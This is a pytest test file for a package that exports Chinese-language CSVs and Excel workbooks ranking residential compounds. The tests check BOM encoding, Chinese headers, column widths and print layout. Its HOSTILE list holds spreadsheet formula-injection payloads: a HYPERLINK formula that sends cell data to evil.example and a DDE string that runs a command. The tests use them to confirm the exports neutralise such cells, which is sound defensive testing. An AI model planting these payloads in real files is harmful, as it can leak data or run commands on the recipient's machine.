"""Files for Excel on a Chinese desktop (issue 19 item 5, issue 16 item 4): people-CSVs with a
BOM, Chinese headers and no cell that runs as a formula; workbooks laid out for reading
and printing (widths from the display width of Chinese text, frozen header, autofilter,
landscape, fit to width, header rows repeated)."""
from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime

import unicodedata

import openpyxl
import polars as pl
import pytest

from attribution.review import write_review_queue
from reports.excel import Sheet, write_people_csv, write_workbook
from reports.rankings import build_rankings, write_rankings

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
           "-2+3", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 BOM"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def assert_people_csv(path) -> None:
    """BOM, a Chinese header row, and no cell Excel would run as a formula (a plain
    negative number is a number)."""
    rows = _csv_cells(path)
    assert rows and any("\u4e00" <= ch <= "\u9fff" for ch in "".join(rows[0])), f"{path.name}: headers not Chinese"
    bad = [cell for row in rows for cell in row
           if cell.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", cell)]
    assert not bad, f"{path.name}: formula-like cells {bad[:3]}"


def display_width(text: str) -> int:
    """Columns ``text`` takes in a monospaced grid: East Asian wide/full-width count two."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def _shown_width(value) -> int:
    """Display columns of a cell as Excel shows it (floats and dates in their formats)."""
    if value is None or isinstance(value, float):
        return 0
    if isinstance(value, datetime):
        return 10 if value.time() == datetime.min.time() else 19
    return display_width(str(value))


def assert_workbook_for_people(path, *, min_rows: int = 1) -> openpyxl.Workbook:
    """Every sheet: frozen below the header, an autofilter over the table, columns as wide
    as their widest text in display columns (CJK counts two), landscape, one page wide,
    header rows repeated (fitToWidth absent means 1, the OOXML default)."""
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        header_row = 2 if ws.max_row >= 2 and ws.cell(row=1, column=2).value is None and ws.max_column > 1 \
            and ws.cell(row=2, column=2).value is not None else 1
        assert ws.freeze_panes == f"A{header_row + 1}", f"{ws.title}: header not frozen"
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith(f"A{header_row}:"), f"{ws.title}: no autofilter"
        assert ws.page_setup.orientation == "landscape", f"{ws.title}: not landscape"
        assert ws.sheet_properties.pageSetUpPr.fitToPage and (ws.page_setup.fitToWidth or 1) == 1 \
            and ws.page_setup.fitToHeight == 0, f"{ws.title}: not fitted to the page width"
        assert ws.print_title_rows == f"$1:${header_row}", f"{ws.title}: header rows not repeated on print"
        for col in range(1, ws.max_column + 1):
            letter = openpyxl.utils.get_column_letter(col)
            width = ws.column_dimensions[letter].width
            texts = [ws.cell(row=r, column=col).value for r in range(header_row, ws.max_row + 1)]
            widest = max(_shown_width(v) for v in texts)
            assert width >= min(widest, 60), f"{ws.title}!{letter}: width {width} < text {widest}"
        assert ws.max_row - header_row >= min_rows or ws.title.endswith(tuple("23456789"))
    return wb


def test_column_widths_fit_chinese_names(tmp_path):
    frame = pl.DataFrame({"区": ["思明区", "海沧区"], "小区名称": ["鹭江道滨海花园小区", "A"],
                          "地址": ["厦门市 Xiamen", "ＡＢ"]})
    ws = openpyxl.load_workbook(write_workbook(tmp_path / "w.xlsx", [Sheet("s", frame)])).active
    # the issue: the 区 column was 4.4 wide; text + 2 (xlsxwriter stores a few pixels more)
    assert [int(ws.column_dimensions[c].width) for c in "ABC"] == [8, 20, 15]


def test_people_csv_prefixes_formula_cells_only(tmp_path):
    frame = pl.DataFrame({"t": HOSTILE + ["正常文本", None], "n": list(range(-4, 4))})
    back = pl.read_csv(write_people_csv(frame, tmp_path / "t.csv"))
    assert back["t"].to_list()[:6] == ["'" + v for v in HOSTILE]
    assert back["t"][6] == "正常文本" and back["t"][7] is None
    assert back["n"].to_list() == list(range(-4, 4)), "numbers stay numbers"


def test_review_queue_csv_neutralises_hostile_cells(tmp_path):
    """Issue 16: review/review_queue.csv carried =HYPERLINK(...) and @SUM(...) verbatim."""
    review = pl.DataFrame({
        "event_id": [f"police:{k}" for k in range(len(HOSTILE))], "source": ["police"] * len(HOSTILE),
        "record_id": [f"r{k}" for k in range(len(HOSTILE))], "reason": ["unmatched"] * len(HOSTILE),
        "address": HOSTILE, "lon_wgs84": [118.1] * len(HOSTILE), "lat_wgs84": [24.4] * len(HOSTILE),
        "chosen_compound_id": [None] * len(HOSTILE), "candidates": ["-1:0.5:address"] * len(HOSTILE)})
    csv_path, xlsx_path = write_review_queue(review, tmp_path)
    assert_people_csv(csv_path)
    back = pl.read_csv(csv_path)
    assert back["地址"].to_list() == ["'" + v for v in HOSTILE]
    wb = assert_workbook_for_people(xlsx_path)
    ws = wb.active
    col = [c.value for c in ws[1]].index("地址") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, 2 + len(HOSTILE))]
    # xlsxwriter stores a carriage return as Excel's escape _x000D_, which openpyxl leaves as is
    assert [c.value.replace("_x000D_", "\r") for c in cells] == HOSTILE and all(c.data_type == "s" for c in cells), \
        "in the workbook the text is kept as text, never a formula"


def test_people_csv_is_bom_utf8_with_chinese_headers(tmp_path):
    frame = pl.DataFrame({"compound_id": ["XM1"], "name": ["=鹭江花园"], "status": ["vetoed"],
                          "safety_index": [-0.5], "as_of": [date(2026, 11, 1)]})
    path = write_people_csv(frame, tmp_path / "评级结果.csv")
    assert_people_csv(path)
    rows = _csv_cells(path)
    assert rows[0] == ["小区编号", "小区名称", "状态", "平安指数", "评定日期"]
    assert rows[1] == ["XM1", "'=鹭江花园", "一票否决", "-0.5", "2026-11-01"]


def test_workbook_layout_title_rows_and_long_frames(tmp_path):
    frame = pl.DataFrame({"区": ["思明区"] * 3, "得分": [1.5, None, float("nan")], "日期": [date(2026, 1, 1)] * 3})
    path = write_workbook(tmp_path / "a.xlsx", [Sheet("汇总", frame, "标题行"), Sheet("明细", frame)])
    wb = assert_workbook_for_people(path)
    assert wb.sheetnames == ["汇总", "明细"]
    assert wb["汇总"]["A1"].value == "标题行" and wb["汇总"]["A2"].value == "区"
    assert [wb["明细"].cell(row=r, column=2).value for r in (2, 3, 4)] == [1.5, None, None]


def test_every_rankings_workbook_sheet_reads_and_prints_well(city, tmp_path):
    rk = build_rankings(city["ratings"], city["compounds"])
    paths = write_rankings(tmp_path, rk)
    for p in paths:
        if p.suffix == ".csv":
            assert_people_csv(p)
    wb = assert_workbook_for_people(tmp_path / "平安星级排名.xlsx")
    assert wb.sheetnames[:4] == ["各区五星占比", "各区排名", "各街道排名", "全市"]
    whole = wb["全市"]
    assert whole.max_row - 2 == city["ratings"].height, "the whole-city sheet holds every compound"
    headers = [c.value for c in whole[2]]
    district = openpyxl.utils.get_column_letter(headers.index("区") + 1)
    assert whole.column_dimensions[district].width >= 8, "a 3-character district name needs 6+ columns"


def test_people_files_name_rules_in_chinese(tmp_path):
    frame = pl.DataFrame({"compound_id": ["A", "B"], "rules": ["veto:homicide|downgrade:fraud_den", None]})
    rows = _csv_cells(write_people_csv(frame, tmp_path / "r.csv"))
    assert rows == [["小区编号", "触发规则"], ["A", "一票否决·故意杀人，降星·诈骗窝点"], ["B", ""]]
